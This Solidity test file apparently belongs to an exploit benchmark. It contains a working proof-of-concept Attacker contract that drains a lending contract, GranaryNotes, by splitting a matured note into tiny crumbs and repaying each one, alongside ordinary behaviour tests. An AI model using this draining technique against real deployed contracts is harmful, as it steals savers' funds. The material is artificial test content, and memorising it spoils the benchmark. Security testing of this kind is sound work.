// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./GranaryNotes.sol";

// assay-canary-6b9a2520-f887-4e35-b040-2a807132563f

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

/// Holds one note for two years, then splits it into crumbs.
contract Attacker {
    GranaryNotes internal notes;
    uint256 internal id;

    constructor(GranaryNotes notes_) {
        notes = notes_;
    }

    receive() external payable {}

    function lend() external {
        id = notes.lend{value: 12 ether}();
    }

    function run() external {
        for (uint256 i = 0; i < 20; ++i) {
            uint256 crumb = notes.split(id, 0.05 ether);
            if (address(notes).balance < notes.worth(crumb)) break;
            notes.repay(crumb);
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant GRETE = address(0x96);
    address internal constant HANS = address(0x97);

    GranaryNotes internal notes;
    Attacker internal sparrow;
    uint256 internal first;
    uint256 internal second;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_700_000_000);
        notes = new GranaryNotes(800);
        vm.deal(address(this), 20 ether);
        vm.deal(GRETE, 10 ether);
        vm.deal(HANS, 10 ether);
        vm.prank(GRETE);
        first = notes.lend{value: 10 ether}();
        vm.prank(HANS);
        second = notes.lend{value: 6 ether}();
        payable(address(notes)).transfer(5 ether);
        sparrow = new Attacker(notes);
        vm.deal(address(sparrow), 12 ether);
    }

    function test_Regular() public {
        vm.warp(block.timestamp + 365 days);
        require(notes.worth(first) == 10.8 ether, "a year's interest");
        vm.prank(GRETE);
        notes.assign(first, HANS);
        vm.prank(GRETE);
        require(!_try(0, abi.encodeCall(notes.repay, (first))), "assigned");
        vm.prank(HANS);
        notes.topUp{value: 2 ether}(first);
        require(notes.worth(first) == 12.8 ether, "topped up");
        vm.prank(HANS);
        require(!_try(0, abi.encodeCall(notes.split, (first, 0.01 ether))), "too small");
        vm.prank(HANS);
        uint256 half = notes.split(first, 6 ether);
        require(notes.worth(half) == 6.4 ether && notes.worth(first) == 6.4 ether, "two halves");
        vm.prank(HANS);
        notes.repay(half);
        require(HANS.balance == 8.4 ether && notes.facesOut() == 12 ether, "repaid");
        vm.prank(HANS);
        require(!_try(0, abi.encodeCall(notes.repay, (half))), "repaid twice");
        notes.setClosed(true);
        vm.prank(HANS);
        require(!_try(1 ether, abi.encodeCall(notes.lend, ())), "closed");
        notes.takeSpare(1 ether);
        require(!_try(0, abi.encodeCall(notes.takeSpare, (5 ether))), "not spare");
    }

    function _try(uint256 value, bytes memory data) private returns (bool ok) {
        (ok, ) = address(notes).call{value: value}(data);
    }

    /// What the two savers can get out.
    function recoverable() public view returns (uint256) {
        uint256 due = 16 ether;
        return address(notes).balance < due ? address(notes).balance : due;
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A note is its holder's, the rest the granary's.
    function test_RefusesStrangers() public {
        vm.deal(GRETE, 5 ether);
        vm.prank(GRETE);
        (bool ok, ) = address(notes).call{value: 1}("");
        require(!ok, "the granary pays in");
        refuses(GRETE, GranaryNotes.GranaryOnly.selector);
        notes.setClosed(true);
        refuses(GRETE, GranaryNotes.GranaryOnly.selector);
        notes.takeSpare(0);
        refuses(GRETE, GranaryNotes.HolderOnly.selector);
        notes.topUp{value: 1 ether}(second);
        refuses(GRETE, GranaryNotes.HolderOnly.selector);
        notes.assign(second, GRETE);
        refuses(GRETE, GranaryNotes.HolderOnly.selector);
        notes.split(second, 1 ether);
    }

    /// Crumbs, closed books, and who takes no ether.
    function test_RefusesNotes() public {
        refuses(GRETE, GranaryNotes.FaceTooSmall.selector);
        notes.split(first, 9.96 ether);
        notes.setClosed(true);
        vm.deal(GRETE, 1 ether);
        refuses(GRETE, GranaryNotes.NotLending.selector);
        notes.topUp{value: 1 ether}(first);
        vm.prank(GRETE);
        notes.assign(first, address(notes));
        refuses(address(notes), GranaryNotes.RepaymentRefused.selector);
        notes.repay(first);
    }

    function exploit() public {
        sparrow.lend();
        vm.warp(block.timestamp + 730 days);
        sparrow.run();
    }

    function test_Exploit() public {
        exploit();
        require(recoverable() < 2 ether && address(sparrow).balance > 28 ether, "savers can be repaid");
    }

    function target() public view returns (address) {
        return address(notes);
    }

    function attacker() public view returns (address) {
        return address(sparrow);
    }
}
